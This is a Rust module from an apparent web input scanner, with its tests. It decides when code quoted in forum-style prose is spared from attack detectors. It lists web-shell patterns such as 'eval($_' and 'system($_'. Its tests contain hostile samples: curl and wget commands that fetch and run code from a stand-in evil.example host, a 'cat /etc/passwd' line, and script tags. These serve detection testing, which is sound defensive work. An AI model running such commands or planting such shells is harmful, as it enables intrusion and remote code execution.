//! Code that an author quotes in a longer text: a forum post that shows `<script>` in a fence asks
//! about it, and a comment field that is nothing but `<script>` attacks.
//!
//! Quoted code is spared at paranoia level 1 and outside strict mode, and only in a document:
//! enough plain words around the quotations that a person wrote it for people. A listing, source
//! text of many lines as editors send it without any fence, is spared from the detectors of server
//! code alone: what a server evaluates comes in a line, while markup acts wherever it stands.

use std::ops::Range;

use super::discussion::SEVERE;
use super::scan::{
    Absent, Needles, at, before, find, from, is_one_of, is_space, position, span, trim,
};

/// Shortest text that can be a document, in bytes.
const MIN_DOCUMENT: usize = 40;
/// Plain words that a document has outside its quotations.
const MIN_WORDS: usize = 5;
/// The same where a fence names its language, which nobody does but an author.
const MIN_WORDS_FENCED: usize = 0;
/// Quotations by which a text compares one thing with another, and the words of such a text.
const MANY: usize = 3;
const MIN_WORDS_MANY: usize = 3;
/// The same where backticks could also be a shell's.
const MIN_WORDS_SHELL: usize = 8;
/// Quotations remembered; what comes after them is not spared.
const MAX_QUOTATIONS: usize = 256;
/// Longest name of a language.
const MAX_LANGUAGE: usize = 16;
/// Longest code between single backticks, in bytes.
const MAX_INLINE: usize = 400;

/// The quoted code of one document; empty when the text is none.
#[derive(Debug, Default)]
pub(super) struct Quotations {
    ranges: Vec<Range<usize>>,
    /// Plain words around them.
    words: usize,
    /// Whether all are fences that name a language of Windows, and nothing that attacks are after is named.
    is_shown: bool,
}

impl Quotations {
    /// Reads a lower-cased view.
    pub(super) fn of(text: &[u8]) -> Self {
        if text.len() < MIN_DOCUMENT {
            return Self::default();
        }
        let ranges = ranges(text);
        if ranges.is_empty() {
            return Self::default();
        }
        let (words, others) = count_words(text, &ranges);
        let is_named = |range: &Range<usize>| names_language(text, range.start);
        let is_named = ranges.iter().any(is_named);
        let least = if is_named {
            MIN_WORDS_FENCED
        } else if ranges.len() >= MANY {
            MIN_WORDS_MANY
        } else {
            MIN_WORDS
        };
        if words >= least && words >= others {
            let is_windows = |range: &Range<usize>| {
                let language = from(text, range.start + 3);
                WINDOWS.iter().any(|name| language.starts_with(name))
            };
            let is_shown =
                is_named && ranges.iter().all(is_windows) && SEVERE.find(text, 0).is_none();
            Self {
                ranges,
                words,
                is_shown,
            }
        } else {
            Self::default()
        }
    }

    /// Whether a finding of this class at `index` lies within quoted code.
    pub(super) fn cover(&self, index: usize, tags: &[&str]) -> bool {
        self.around(index).is_some()
            && (self.is_shown || self.words >= MIN_WORDS_SHELL || tags.first() != Some(&"rce"))
    }

    /// The quotation that holds `index`, with its marks.
    pub(super) fn around(&self, index: usize) -> Option<&Range<usize>> {
        let after = self.ranges.partition_point(|range| range.start <= index);
        let last = self.ranges.get(after.checked_sub(1)?)?;
        last.contains(&index).then_some(last)
    }
}

/// Lines that a listing has at least, empty ones not counted.
const MIN_LINES: usize = 4;
/// Attack classes, by a rule's first tag, whose code is harmless in a listing.
const LISTED: &[&str] = &["code", "nosqli", "ssti", "rce"];

/// What makes a listing a shell for whoever asks for the page: a program runs what a client sends.
pub(super) static SHELLS: Needles<'static> = Needles::numbered(
    15,
    &[
        b"eval($_",
        b"system($_",
        b"exec($_",
        b"passthru($_",
        b"popen($_",
        b"assert($_",
        b"exec(request.",
        b"start(request.",
    ],
);

/// Whether findings of this class are spared in a listing.
pub(super) fn is_listed(tags: &[&str]) -> bool {
    tags.first().is_some_and(|class| LISTED.contains(class))
}

/// Whether the text is source code of many lines: most end or begin as lines of code do.
pub(super) fn is_listing(text: &[u8], absent: Absent) -> bool {
    if absent.find(&SHELLS, text, 0).is_some() {
        return false;
    }
    let (mut lines, mut indented, mut ended) = (0usize, 0usize, 0usize);
    for line in text.split(|byte| *byte == b'\n') {
        let code = trim(line);
        if code.is_empty() {
            continue;
        }
        lines += 1;
        let is_indented = line.starts_with(b"  ") || line.starts_with(b"\t");
        indented += usize::from(is_indented);
        let last = code.last().copied().unwrap_or_default();
        ended += usize::from(matches!(
            last,
            b'{' | b'}' | b';' | b',' | b':' | b'(' | b')' | b'[' | b']' | b'>'
        ));
    }
    lines >= MIN_LINES && indented * 3 >= lines && ended * 3 >= lines
}

/// Languages of Windows: a shell that takes backticks for its own runs none of them.
const WINDOWS: &[&[u8]] = &[
    b"powershell\n",
    b"pwsh\n",
    b"ps1\n",
    b"bat\n",
    b"batch\n",
    b"cmd\n",
];

/// Openings and what closes them. Longer openings come before their own beginnings.
const FENCES: &[(&[u8], &[u8])] = &[
    (b"```", b"```"),
    (b"~~~", b"~~~"),
    (b"<pre>", b"</pre>"),
    (b"<pre ", b"</pre>"),
    (b"<code>", b"</code>"),
    (b"<code ", b"</code>"),
    (b"[code]", b"[/code]"),
    (b"[code=", b"[/code]"),
];

/// Whether a quotation may start with the byte.
fn is_mark(byte: u8) -> bool {
    is_one_of(byte, *b"`~<[\n")
}

/// Quotations in order, none overlapping, each search bounded by the next one's start.
fn ranges(text: &[u8]) -> Vec<Range<usize>> {
    let mut ranges = Vec::new();
    // A closing that was not found once is not looked for again: the whole stays linear.
    let mut missing = [false; FENCES.len()];
    let mut index = 0;
    while ranges.len() < MAX_QUOTATIONS {
        let Some(mark) = position(text, index, is_mark) else {
            break;
        };
        index = mark;
        let end = match at(text, index) {
            b'`' | b'~' | b'<' | b'[' => {
                fence(text, index, &mut missing).or_else(|| inline(text, index))
            }
            b'\n' => indented(text, index),
            _ => None,
        };
        match end {
            Some(end) => {
                ranges.push(index..end);
                index = end;
            }
            None => index += 1,
        }
    }
    ranges
}

fn fence(text: &[u8], start: usize, missing: &mut [bool; FENCES.len()]) -> Option<usize> {
    let tail = from(text, start);
    let kind = FENCES.iter().position(|(open, _)| tail.starts_with(open))?;
    let (open, close) = FENCES.get(kind)?;
    let is_missing = missing.get_mut(kind)?;
    if *is_missing {
        return None;
    }
    let end = find(text, close, start + open.len());
    *is_missing = end.is_none();
    Some(end? + close.len())
}

/// Code blocks of editors that keep a document as markup: `CKEditor`, `TinyMCE`, Quill.
const BLOCKS: &[&[u8]] = &[
    b"<pre><code class=\"language-",
    b"<pre class=\"language-",
    b"<pre class=\"ql-syntax\"",
];

/// Whether a fence at the start of a line says what it holds, and the code starts on the next.
fn names_language(text: &[u8], start: usize) -> bool {
    if BLOCKS
        .iter()
        .any(|block| from(text, start).starts_with(block))
    {
        return true;
    }
    let language = from(text, start)
        .strip_prefix(b"```")
        .or_else(|| from(text, start).strip_prefix(b"~~~"))
        .unwrap_or_default();
    let length = language
        .iter()
        .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'#' | b'-'))
        .count();
    let end = from(language, length);
    matches!(before(text, start), 0 | b'\n')
        && (1..=MAX_LANGUAGE).contains(&length)
        && (end.starts_with(b"\n") || end.starts_with(b"\r\n"))
}

/// `` `code` `` within one line.
fn inline(text: &[u8], start: usize) -> Option<usize> {
    if at(text, start) != b'`' {
        return None;
    }
    let inner = span(text, start + 1, start + 1 + MAX_INLINE);
    let length = inner.iter().position(|byte| matches!(byte, b'`' | b'\n'))?;
    (length > 0 && at(inner, length) == b'`').then_some(start + length + 2)
}

/// Lines indented by four spaces or a tab after an empty line (Markdown's oldest code block).
fn indented(text: &[u8], newline: usize) -> Option<usize> {
    let is_code = |line: usize| at(text, line) == b'\t' || from(text, line).starts_with(b"    ");
    let blank = newline
        + 1
        + from(text, newline + 1)
            .iter()
            .take_while(|byte| **byte == b'\r')
            .count();
    if at(text, blank) != b'\n' || !is_code(blank + 1) {
        return None;
    }
    let mut line = blank + 1;
    while line < text.len() && is_code(line) {
        line += from(text, line)
            .iter()
            .position(|byte| *byte == b'\n')
            .map_or(text.len() - line, |end| end + 1);
    }
    Some(line.min(text.len()))
}

/// Plain words of what is not quoted, and what else stands between spaces there.
fn count_words(text: &[u8], ranges: &[Range<usize>]) -> (usize, usize) {
    let starts = std::iter::once(0).chain(ranges.iter().map(|range| range.end));
    let ends = ranges
        .iter()
        .map(|range| range.start)
        .chain(std::iter::once(text.len()));
    let tokens = starts
        .zip(ends)
        .flat_map(|(start, end)| {
            // A tag around a word is no part of it: `<p>Hello,`.
            span(text, start, end).split(|byte| is_space(*byte) || matches!(byte, b'<' | b'>'))
        })
        .filter(|token| {
            let tag = token.strip_prefix(b"/").unwrap_or(token);
            !matches!(
                tag,
                b"" | b"p"
                    | b"br"
                    | b"br/"
                    | b"div"
                    | b"pre"
                    | b"code"
                    | b"strong"
                    | b"em"
                    | b"b"
                    | b"i"
                    | b"li"
                    | b"ul"
                    | b"ol"
                    | b"h1"
                    | b"h2"
                    | b"h3"
                    | b"blockquote"
            )
        });
    let (mut words, mut others) = (0usize, 0usize);
    for token in tokens {
        if is_plain_word(token) {
            words += 1;
        } else if is_foreign(token) {
            words += (token.len() / FOREIGN_WORD).max(1);
        } else if token.is_ascii() || token.iter().any(u8::is_ascii_alphanumeric) {
            // An arrow or a dash is neither.
            others += 1;
        }
    }
    (words, others)
}

/// Bytes that a word takes, about, in scripts of two and three bytes a letter; some put no spaces between words.
const FOREIGN_WORD: usize = 12;

/// Letters of another script, mostly.
fn is_foreign(token: &[u8]) -> bool {
    let letters = token.iter().filter(|byte| **byte >= 0x80).count();
    letters >= 4 && letters * 3 >= token.len() * 2
}

/// Letters of any script, with the punctuation that prose puts around words.
fn is_plain_word(token: &[u8]) -> bool {
    let is_mark = |byte: &u8| {
        matches!(
            byte,
            b',' | b'.' | b':' | b';' | b'!' | b'?' | b'"' | b'\'' | b'(' | b')' | b'*' | b'-'
        )
    };
    token.len() <= 24
        && token.iter().any(u8::is_ascii_alphabetic)
        && token
            .iter()
            .all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80 || is_mark(byte))
        && token.iter().filter(|byte| is_mark(byte)).count() <= 3
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const PROSE: &str =
        "hello all, why does my browser run this when i paste it into the page of my blog?";

    fn covers(text: &str, needle: &str) -> bool {
        Quotations::of(text.as_bytes()).cover(text.find(needle).unwrap(), &["xss"])
    }

    #[test]
    fn spares_code_that_prose_surrounds() {
        for quoted in [
            "```html\n<script>\n```",
            "`<script>`",
            "~~~\n<script>\n~~~",
            "<pre class=\"ql-syntax\"><script></pre>",
            "<p>so:</p><code><script></code>",
            "[code]<script>[/code]",
            "\n\n    <script>\n    x\nend",
            "\r\n\r\n\t<script>\r\n",
        ] {
            assert!(
                covers(&format!("{PROSE} {quoted} thanks"), "<script>"),
                "{quoted}"
            );
            assert!(
                covers(&format!("`a` {PROSE} {quoted}"), "<script>"),
                "{quoted}"
            );
        }
    }

    #[test]
    fn spares_nothing_else() {
        let filler = "A".repeat(200);
        for text in [
            "`<script>`".to_owned(),
            format!("{filler}`<script>`"),
            format!("{PROSE} <script> `x`"),
            format!("{PROSE} ``` <script>"),
            format!("{PROSE} `a\n<script>`"),
            format!("{} `<script>`", "1 = 1 -- ".repeat(30)),
        ] {
            assert!(!covers(&text, "<script>"), "{text}");
        }
    }

    #[test]
    fn many_quotations_need_few_words() {
        let compared =
            "`select a from dual` \u{2192} `select now()` (no from needed). `x` \u{2192} `y`";
        assert!(covers(compared, "select now"));
        assert!(!covers(
            "`select a from dual` = `select now()` (no from) `x` = 1 = 2 = `y`",
            "select now"
        ));
        assert!(!covers(
            "`select a from dual` \u{2192} `select now()` (no from needed).",
            "select now"
        ));
    }

    #[test]
    fn backticks_may_be_a_shells() {
        let quotations = Quotations::of(b"what does `id` print on your computer, please?");
        assert!(quotations.cover(11, &["xss"]));
        assert!(!quotations.cover(11, &["rce"]));
    }

    #[test]
    fn a_fence_that_names_its_language_needs_no_words() {
        let covers = |text: &str| {
            let index = text.find('\n').unwrap();
            Quotations::of(text.as_bytes()).cover(index + 1, &["rce"])
        };
        assert!(covers(
            "```powershell\nget-childitem -path c:\\logs -recurse\n```"
        ));
        assert!(!covers("```\nget-childitem -path c:\\logs -recurse\n```"));
        assert!(!covers(
            "```bash\ncat /etc/passwd; get-childitem -path c:\n```"
        ));
        assert!(!covers(
            "```bash\ncurl http://evil.example/x -o /tmp/x; sh /tmp/x\n```"
        ));
        assert!(!covers("```sh\nwget http://evil.example/x -o- | perl\n```"));
    }

    #[test]
    fn tells_listings_from_lines() {
        let listing = "def f(self):\n    x = {}\n    if x:\n        return eval(x)\n    y = [\n        1,\n    ]\n";
        assert!(is_listing(listing.as_bytes(), Absent::NONE));
        assert!(is_listed(&["code", "CWE-94"]) && !is_listed(&["xss"]));
        for text in [
            "x=1;\nsystem('id')\n",
            PROSE,
            &"one line of prose\n".repeat(9),
            "\n\n\n\n\n\n  ;",
        ] {
            assert!(!is_listing(text.as_bytes(), Absent::NONE), "{text}");
        }
    }

    proptest! {
        #[test]
        fn ranges_are_ordered_and_within(text in "[`~<>/precod\\[\\]\n\t a-c]{0,300}") {
            let ranges = ranges(text.as_bytes());
            prop_assert!(ranges.windows(2).all(|pair| pair[0].end <= pair[1].start));
            prop_assert!(ranges.iter().all(|range| range.start < range.end && range.end <= text.len()));
        }
    }
}
